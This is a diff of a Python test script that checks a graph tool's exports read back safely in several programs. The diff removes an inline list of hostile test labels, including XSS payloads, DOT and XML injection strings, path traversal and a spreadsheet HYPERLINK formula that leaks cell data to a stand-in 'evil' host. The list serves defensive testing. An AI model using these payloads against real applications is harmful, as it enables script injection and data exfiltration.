@@ -1,20 +1,17 @@
 #!/usr/bin/env python3
 """What `entente export` writes is read back by the programs it is meant for:
 Graphviz, xmllint, NetworkX, igraph and Python's csv and json. Nodes, edges and
-weights must be equal in all of them, also for hostile names.
+weights must be equal in all of them, also for hostile names (labels_read_back.py has all writers).
 
 usage: exports_read_back.py ENTENTE SOURCE_DIR; exit 77: skipped
 """
 import csv
-import importlib.util
 import json
 import os
-import re
 import shutil
 import subprocess
 import sys
 import tempfile
-import xml.etree.ElementTree
 
 try:
     import igraph
@@ -30,28 +27,10 @@ for tool in ("dot", "xmllint"):
         print(f"skipped: {tool} is not installed")
         sys.exit(77)
 
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
+from readers.labels import HOSTILE, check, edge_list, exported, kit_labels, run, unguarded  # noqa: E402
+
 PROGRAM, SOURCE = os.path.abspath(sys.argv[1]), sys.argv[2]
-
-# One name for each thing that some reader or viewer would act on.
-HOSTILE = [
-    "plain", 'Joe "The Knife" O\'Hara', "C:\\dir\\", '\\" ]; evil [label="x', "\\N \\G \\E \\l",
-    '"]; } digraph x { a -> b', "<b>bold</b>", '<<TABLE><TR><TD><IMG SRC="/etc/passwd"/></TD></TR>',
-    "graph", "strict", "-.5e3", "a /* b */ // c # d", "a:b:ne", "{a|<p>b|c}",
-    "<script>alert(1)</script>", "</text></svg><svg onload=alert(1)>", "]]>", "--> <x>",
-    "&lt; &#0; &amp;amp; &xxe;", "' onmouseover='alert(1)", "=1+1", "+1", "@SUM(A1)", "\uff1d1+1",
-    "=HYPERLINK(\"http://evil/?\"&A1,\"x\")", " =1+1", "\u00a0=1+1", "a,b;c", "null", "NaN", "__proto__",
-    "日本", "e\u0301", "\U0001d4d9oe", "Lаvrov", "*Vertices 3", "2022-01-21", "%s%n", "${x}", "../../etc",
-]
-
-
-def check(condition, what):
-    if not condition:
-        print("FAILED:", what)
-        sys.exit(1)
-
-
-def run(*command):
-    return subprocess.run(command, check=True, capture_output=True, text=True).stdout
 
 
 def weights(graph, name=lambda n: n):
@@ -73,10 +52,6 @@ def igraph_weights(graph, names, attribute="weight"):
             pair.sort()
         rows.append((*pair, float(e[attribute])))
     return sorted(rows)
-
-
-def unguarded(cell):
-    return cell[1:] if cell.startswith("'") else cell
 
 
 def read_back(source, folder, arguments, labels=None, reduced=lambda s: s):
@@ -146,41 +121,6 @@ def read_back(source, folder, arguments, labels=None, reduced=lambda s: s):
     check(edges == expected, "DOT edges with weights")
 
 
-def shown(text):
-    """What is left of a label where no control characters may stand (docs/formats.md)."""
-    out = ""
-    for c in text.replace("\0", "\ufffd"):
-        point = ord(c)
-        if point < 0x20 or 0x7f <= point < 0xa0 or point in (0x2028, 0x2029):
-            out += " "
-        elif not (point in (0x200b, 0xfeff, 0x61c, 0x200e, 0x200f) or 0x202a <= point <= 0x202e or
-                  0x2066 <= point <= 0x2069 or point & 0xfffe == 0xfffe):
-            out += c
-    return out
-
-
-def kit_labels(source):
-    """The labels of the kit of bad inputs by name, where its maker is at hand."""
-    shared = os.environ.get("ENTENTE_SHARED", os.path.join(source, "..", "shared"))
-    path = os.path.join(shared, "hostile", "make_hostile.py")
-    if not os.path.exists(path):
-        print("left out: the kit's labels, for there is no ../shared/hostile")
-        return {}
-    spec = importlib.util.spec_from_file_location("make_hostile", path)
-    kit = importlib.util.module_from_spec(spec)
-    spec.loader.exec_module(kit)
-    return kit.LABELS
-
-
-def edge_list(path, labels):
-    with open(path, "w", encoding="utf-8", newline="") as file:
-        writer = csv.writer(file)
-        writer.writerow(["source", "target", "weight"])
-        for i, name in enumerate(labels):
-            writer.writerow([name, "hub", (i + 1) / 8])
-    return path
-
-
 def refused(label, folder):
     """Whether an edge list with this label is refused, with its place."""
     path = edge_list(os.path.join(folder, "one.csv"), [label])
@@ -189,64 +129,6 @@ def refused(label, folder):
     check(done.returncode == 0 or (done.returncode == 2 and "one.csv:2: " in done.stderr),
           f"an edge list with {label[:40]!r}: {done.stderr}")
     return done.returncode != 0
-
-
-def read_tables_back(ties, labels):
-    """The names in every form of a list: exactly in JSON, as shown in the others."""
-    ask = [PROGRAM, "rank", ties, "--top", "1000"]
-    exact = [row["label"] for row in json.loads(run(*ask, "--json"))["rows"]]
-    check(sorted(exact) == sorted(labels), "names in rank --json")
-    lines = run(*ask, "--jsonl").split("\n")
-    names = [json.loads(line).get("label") for line in lines if line.strip()]
-    check(sorted(n for n in names if n is not None) == sorted(labels), "names in rank --jsonl")
-    rows = list(csv.DictReader(run(*ask, "--csv").splitlines(keepends=True)))
-    got = sorted(unguarded(row["label"]) for row in rows)
-    check(got == sorted(unguarded(shown(n.replace("\0", " "))) for n in labels),
-          "names in rank --csv")
-    bare = sorted(shown(n.replace("\0", " ")).strip() for n in labels)
-    rows = run(*ask, "--tsv").split("\n")
-    at = rows[0].split("\t").index("label")
-    check(sorted(row.split("\t")[at].strip() for row in rows[1:] if row) == bare,
-          "names in rank --tsv")
-    rows = [row for row in run(*ask, "--markdown").split("\n") if row.startswith("| ")][2:]
-    cells = [re.split(r"(?<!\\)(?:\\\\)*\|", row)[2] for row in rows]
-    check(sorted(re.sub(r"\\(.)", r"\1", cell).strip() for cell in cells) == bare,
-          "names in rank --markdown")
-    check(not any(re.search(r"(?<!\\)<", row) for row in rows), "markup in rank --markdown")
-    text = run(*ask, "--format=table")
-    check(all(ord(c) >= 0x20 or c == "\n" for c in text), "controls in a table")
-
-
-def read_pictures_back(ties, folder, labels):
-    """Every name is in the pictures as a tooltip, and they hold nothing that a name brought."""
-    svg, dot = os.path.join(folder, "picture.svg"), os.path.join(folder, "picture.dot")
-    for path in (svg, dot):
-        run(PROGRAM, "render", ties, "-o", path)
-    run("xmllint", "--noout", svg)
-    tooltips = []
-    for element in xml.etree.ElementTree.parse(svg).iter():
-        tag = element.tag.split("}")[1]
-        check(tag in ("svg", "g", "title", "desc", "polygon", "path", "ellipse", "text", "polyline"),
-              "the SVG holds an element " + tag)
-        for key in element.attrib:
-            check(not key.startswith("on") and not key.endswith("href"), "the SVG holds " + key)
-        if tag == "title" and " - influence " in element.text:
-            tooltips.append(element.text.rsplit(" - influence ", 1)[0])
-    cut = [shown(n.replace("\0", " ")).strip()[:250] for n in labels]
-    check(sorted(t.strip()[:250] for t in tooltips) == sorted(cut), "names in the SVG's tooltips")
-    given = re.findall(r"^\tn(\d+)\t(?:.|\n)*?pos=\"([-.\d]+),([-.\d]+)!", open(dot).read(), re.M)
-    check(len(given) == len(labels), "actors in the picture's DOT")
-    drawn = {o["name"]: o["pos"] for o in json.loads(run("neato", "-n2", "-Tjson0", dot))["objects"]}
-    shifts = []
-    for node, x, y in given:
-        now = [float(v) for v in drawn["n" + node].rstrip("!").split(",")]
-        shifts.append((now[0] - float(x), now[1] - float(y)))
-    for axis in (0, 1):  # the whole drawing may be moved
-        moved = [shift[axis] for shift in shifts]
-        check(max(moved) - min(moved) < 0.03, "neato -n2 leaves the actors where they are")
-    again = os.path.join(folder, "again.dot")
-    run(PROGRAM, "--threads", "1", "render", ties, "-o", again)
-    check(open(again, "rb").read() == open(dot, "rb").read(), "the same picture on one thread")
 
 
 with tempfile.TemporaryDirectory() as folder:
@@ -263,10 +145,7 @@ with tempfile.TemporaryDirectory() as folder:
           "only labels that are empty or too long are refused")
     labels = kept + [label for label in HOSTILE if label not in kept]
     ties = edge_list(os.path.join(folder, "hostile.csv"), labels)
-    names = labels + ["hub"]
-    read_back(ties, folder, [], labels=names, reduced=shown)
-    read_tables_back(ties, names)
-    read_pictures_back(ties, folder, names)
-    print(f"kit: {len(kept)} of {len(kit)} labels read back, {len(kit) - len(kept)} refused; "
-          f"others: {len(labels) - len(kept)} read back")
+    read_back(ties, folder, [], labels=labels + ["hub"], reduced=exported)
+    print(f"kit: {len(kept)} of {len(kit)} labels from an edge list, {len(kit) - len(kept)} refused; "
+          f"others: {len(labels) - len(kept)}")
 print("ok")
